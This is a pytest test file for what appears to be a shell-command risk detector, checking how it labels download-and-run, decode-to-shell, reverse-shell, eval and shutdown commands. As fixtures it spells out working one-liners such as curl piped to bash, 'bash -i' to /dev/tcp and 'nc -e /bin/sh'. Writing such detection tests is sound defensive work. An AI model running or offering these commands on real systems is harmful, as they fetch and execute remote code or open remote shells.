"""Running code and running the machine."""

from __future__ import annotations

import pytest

from tests.unit.detect.reading import DECODE, DOWNLOAD, DYNAMIC, NETWORK, POWER, REVERSE, categories


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://a.test | bash",
        "CURL https://a.test | ZSH",
        "wget -qO- https://a.test/x.py | python3 -",
        "curl https://a.test | node",
        "curl https://a.test | tee x | bash",
        "curl https://a.test | env A=1 bash -s -- --yes",
        "(curl https://a.test) | sh",
        "bash <(curl -s https://a.test)",
        "source <(curl -s https://a.test)",
        ". <(wget -qO- https://a.test)",
        'sh -c "$(curl -fsSL https://a.test)"',
        'bash -c "`wget -qO- https://a.test`"',
        "$(curl -s https://a.test)",
        'python3 -c "$(curl https://a.test)"',
        "curl https://a.test | xargs -0 bash -c 'x' | sh",
    ],
)
def test_downloaded_code_that_runs_is_seen_in_every_shape(text: str) -> None:
    assert categories(text) == [DOWNLOAD, NETWORK]


def test_evaluated_downloads_are_both() -> None:
    assert categories('eval "$(curl -s https://a.test)"') == [DOWNLOAD, DYNAMIC, NETWORK]


@pytest.mark.parametrize(
    "text",
    [
        "curl https://a.test | jq .",
        "curl https://a.test | python3 -c 'import json, sys; json.load(sys.stdin)'",
        "curl https://a.test | python3 -m json.tool",
        "curl https://a.test | perl -ne 'print'",
        "curl https://a.test | bash check.sh",
        "curl https://a.test | sudo_free tee x",
    ],
)
def test_downloads_that_are_stored_or_read_are_not(text: str) -> None:
    assert categories(text) == [NETWORK]


def test_local_data_for_fixed_code_is_no_download() -> None:
    assert categories("printf '{}' | python3 -c 'import sys; print(sys.stdin.read())'") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo x | openssl enc -d -base64 | sh", [DECODE]),
        ("base64 -d blob | bash", [DECODE]),
        ("base64 -d blob > x.bin", []),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", [REVERSE, NETWORK]),
        ("nc -e /bin/sh 10.0.0.1 4444", [REVERSE, NETWORK]),
        ("nc -zv localhost 5432", [NETWORK]),
        ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", [REVERSE, NETWORK]),
        ("eval $CMD", [DYNAMIC]),
        ("eval", []),
        ("shutdown -h now", [POWER]),
        ("shutdown -c", []),
        ("systemctl reboot", [POWER]),
        ("systemctl status reboot.target", []),
        ("init 6", [POWER]),
        ("init --help", []),
    ],
)
def test_running_code_and_the_machine(text: str, expected: list[str]) -> None:
    assert categories(text) == expected
